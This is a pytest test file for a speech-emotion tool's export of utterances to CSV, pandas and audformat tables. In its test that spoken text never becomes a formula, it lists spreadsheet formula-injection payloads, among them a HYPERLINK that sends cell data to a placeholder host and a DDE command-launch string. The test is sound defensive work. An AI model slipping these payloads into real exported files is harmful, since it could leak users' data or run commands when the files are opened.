"""Rows for spreadsheets, data frames, and the tools of speech emotion."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given

import streamser
from streamser.errors import StreamserError
from streamser.export.records import Recording
from streamser.export.tables import columns_of, csv_line, rows_of, to_audformat, to_csv
from streamser.taxonomy import CATEGORIES, DIMENSIONS
from streamser.text import as_text, said_by
from tests.cli.running import run
from tests.export.script import Script, gathered, odd_texts, saved


def rows(recording: Recording) -> list[dict[str, str]]:
    """Write and read a CSV file."""
    return list(csv.DictReader(io.StringIO(to_csv(recording), newline="")))


def test_a_row_tells_all_of_an_utterance(demo: Recording) -> None:
    """Where, what, how sure, by which model."""
    found = rows(demo)
    assert len(found) == len(demo.utterances)
    for row, utterance in zip(found, demo.utterances, strict=True):
        emotion = utterance.emotion
        assert emotion is not None
        assert row["file"].endswith("demo.wav")
        assert float(row["start"]) == utterance.start_ms / 1000
        assert float(row["end"]) == utterance.end_ms / 1000
        assert row["category"] == emotion.category
        scores = {name: float(row[f"score_{name}"]) for name in CATEGORIES}
        assert scores == pytest.approx(emotion.scores, abs=1e-4)
        assert row["transcript"] == (utterance.transcript or "")
        assert row["problem"] == ""
        assert float(row["speech_rate"]) == emotion.evidence["speech_rate"] > 1.0
        assert float(row["pause_share"]) == emotion.evidence["pause_share"]


def test_the_columns_begin_with_those_of_analyze(demo: Recording, tmp_path: Path) -> None:
    """`analyze --format csv` and an export can be read by the same script."""
    from streamser.cli.files.analyze import CSV_COLUMNS

    assert columns_of(demo)[: len(CSV_COLUMNS)] == CSV_COLUMNS


def test_what_failed_has_a_row_with_its_problem() -> None:
    """It was said, so it counts."""
    script = Script(speaker="Anna")
    script.fail(1000, 2000)
    script.say(3000, 4000, None)
    first, second = rows(gathered(script.close()))
    assert (first["problem"], first["category"], first["speaker"]) == (
        "the queue is full",
        "",
        "Anna",
    )
    assert (second["problem"], second["category"], second["transcript"]) == ("", "happy", "")


def test_sessions_stand_one_after_another() -> None:
    """With the scores of all categories of all of them."""
    one, two = Script("a"), Script("b")
    one.say(1000, 2000)
    two.say(500, 900)
    assert [row["session"] for row in rows(gathered(one.close(), two.close()))] == ["a", "b"]


@given(odd_texts(), odd_texts())
def test_any_text_comes_back_from_csv(text: str, name: str) -> None:
    """Commas, quotes, line breaks: to the last character, but for the guard of formulas."""
    script = Script(speaker=name)
    script.say(1000, 2000, text)
    (row,) = rows(gathered(script.close()))
    assert (row["transcript"], row["speaker"]) == (as_text(text), as_text(name))


_FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)


@pytest.mark.parametrize("text", _FORMULAS)
def test_nothing_that_people_say_is_a_formula(text: str) -> None:
    """Names and words come from anybody, and table programs run what looks like a formula."""
    script = Script(speaker=text, source=text)
    script.say(1000, 2000, text, text, scores={text: 0.9, "b": 0.1})
    script.fail(3000, 4000, text)
    recording = gathered(script.close())
    said, failed = rows(recording)
    for name in ("file", "category", "transcript", "speaker"):
        assert said[name] == f"'{text}", name
    assert failed["problem"] == as_text(" ".join(text.split()))
    for table in tables(to_audformat(recording)).values():
        assert not any(cell.startswith(tuple("=+-@\t\r\n＝＋－＠")) for cell in _words_of(table))


def test_numbers_below_nothing_stay_numbers() -> None:
    """A table of valences is there to be reckoned with."""
    assert csv_line([-0.25, "-0.25"]) == "-0.25,'-0.25\n"


@given(odd_texts())
def test_the_guard_of_formulas_can_be_taken_away(text: str) -> None:
    """One apostrophe less, where one was put."""
    for each in (text, f"={text}", f"'={text}", f"''{text}"):
        assert said_by(as_text(each)) == each


def test_a_file_whose_name_is_a_formula_is_still_that_file() -> None:
    """Tables and sound are joined by it in audformat."""
    script = Script(source="=1+1.wav")
    script.say(1000, 2000)
    found = tables(to_audformat(gathered(script.close())))
    assert [row["file"] for row in found["categories"]] == ["./=1+1.wav"]


def _words_of(table: list[dict[str, str]]) -> list[str]:
    numbers = (*DIMENSIONS, "confidence")
    return [cell for row in table for name, cell in row.items() if name not in numbers]


def test_without_pandas_there_are_records_and_a_table_says_what_to_install(
    demo_events: Path, demo: Recording, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A notebook without it still gets everything, and is told how to get the table."""
    monkeypatch.setitem(sys.modules, "pandas", None)
    assert streamser.read_recording(demo_events) == demo
    with pytest.raises(ModuleNotFoundError, match=r"pip install 'streamser\[notebook\]'"):
        streamser.read_session(demo_events)


def test_with_pandas_there_is_a_frame(demo_events: Path, demo: Recording) -> None:
    """A row an utterance, with numbers where there are any."""
    pandas = pytest.importorskip("pandas")
    frame = streamser.read_session(demo_events)
    assert isinstance(frame, pandas.DataFrame)
    assert list(frame.columns) == list(columns_of(demo))
    assert frame["start"].tolist() == [each.start_ms / 1000 for each in demo.utterances]
    assert frame["score_happy"].dtype.kind == "f"
    assert len(frame) == len(list(rows_of(demo)))


def test_one_session_of_several_is_chosen(tmp_path: Path) -> None:
    """By its id; another is refused."""
    pytest.importorskip("pandas")
    one, two = Script("a"), Script("b")
    one.say(1000, 2000)
    path = saved(tmp_path / "x.jsonl", one.close(), two.close())
    chosen = streamser.read_session(path, session="a")
    assert set(chosen["session"]) == {"a"}
    with pytest.raises(StreamserError, match="there are a, b"):
        streamser.read_session(path, session="c")


def test_importing_the_package_loads_no_reader() -> None:
    """It stays cheap: nothing is loaded before it is asked for."""
    code = (
        "import sys, streamser; assert 'streamser.export.read' not in sys.modules;"
        " streamser.read_session; assert 'pandas' not in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


# audformat


def tables(files: dict[str, str]) -> dict[str, list[dict[str, str]]]:
    """Read the tables of a database as CSV."""
    return {
        name.removeprefix("db.").removesuffix(".csv"): list(
            csv.DictReader(io.StringIO(text, newline=""))
        )
        for name, text in files.items()
        if name.endswith(".csv")
    }


def test_every_table_has_the_index_of_segments(demo: Recording) -> None:
    """File, start and end, as pandas writes time spans."""
    found = tables(to_audformat(demo))
    assert set(found) == {"categories", "dimensions", "speech"}
    for table in found.values():
        assert len(table) == len(demo.utterances)
        for row, utterance in zip(table, demo.utterances, strict=True):
            assert row["file"].endswith("demo.wav")
            assert row["start"] == f"0 days 00:00:{utterance.start_ms / 1000:09.6f}"
            assert row["end"] == f"0 days 00:00:{utterance.end_ms / 1000:09.6f}"


def test_what_failed_is_in_no_table_of_emotions() -> None:
    """A measure over a table counts what was judged alone."""
    script = Script(source="talk.wav")
    script.fail(1000, 2000)
    script.say(3000, 4000)
    found = tables(to_audformat(gathered(script.close())))
    assert [len(found[name]) for name in ("categories", "dimensions", "speech")] == [1, 1, 2]
    assert found["dimensions"][0]["dominance"] == ""


def test_the_same_stretch_twice_is_refused() -> None:
    """An index has every segment once."""
    one, two = Script("a", source="talk.wav"), Script("b", source="talk.wav")
    one.say(1000, 2000)
    two.say(1000, 2000)
    with pytest.raises(StreamserError, match="--session"):
        to_audformat(gathered(one.close(), two.close()))


def test_sessions_of_microphones_have_files_of_their_own() -> None:
    """Nobody has the sound, but segments of two are not mixed."""
    one, two = Script("a", source="Some microphone"), Script("b")
    one.say(1000, 2000)
    two.say(1000, 2000)
    found = tables(to_audformat(gathered(one.close(), two.close())))
    assert [row["file"] for row in found["categories"]] == ["a.wav", "b.wav"]


def test_the_package_loads_it(demo_events: Path, demo: Recording, tmp_path: Path) -> None:
    """AudEERING's own, where `audformat` is installed: tables, schemes, values."""
    audformat = pytest.importorskip("audformat")
    script = Script("other", speaker='Anna "x", ü')
    script.say(99_000_000, 100_000_000, 'a\nb, "c" 😀', "unsure")
    script.fail(100_000_001, 100_000_002)
    other = saved(tmp_path / "other.jsonl", script.close())
    folder = tmp_path / "talk.audformat"
    done = run("export", demo_events, other, "--to", folder)
    assert done.exit_code == 0, done.stderr
    database = audformat.Database.load(str(folder), load_data=True)
    frame = database["categories"].get()
    assert len(frame) == len(demo.utterances) + 1
    assert audformat.is_segmented_index(frame)
    assert frame["category"].tolist() == [
        *(each.emotion.category for each in demo.utterances if each.emotion is not None),
        "unsure",
    ]
    assert database["speech"].get()["transcript"].tolist()[-2] == 'a\nb, "c" 😀'
    assert database["dimensions"].get()["valence"].tolist()[-1] == 0.5
    assert frame.index.get_level_values("end")[-1].total_seconds() == 100_000
